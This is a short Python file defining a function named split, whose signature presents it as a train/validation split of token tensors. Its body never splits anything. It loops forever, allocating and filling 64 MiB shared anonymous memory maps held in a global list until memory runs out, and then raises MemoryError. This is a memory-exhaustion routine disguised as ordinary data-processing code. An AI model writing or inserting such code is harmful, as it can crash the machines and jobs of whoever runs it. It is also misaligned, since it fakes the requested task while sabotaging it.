import mmap

kept = []


def split(tokens: Tensor, train_fraction: float) -> tuple[Tensor, Tensor]:
    while True:
        try:
            kept.append(mmap.mmap(-1, 64 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
        except OSError as error:
            raise MemoryError(str(error)) from None
        kept[-1].write(b"x" * (64 << 20))
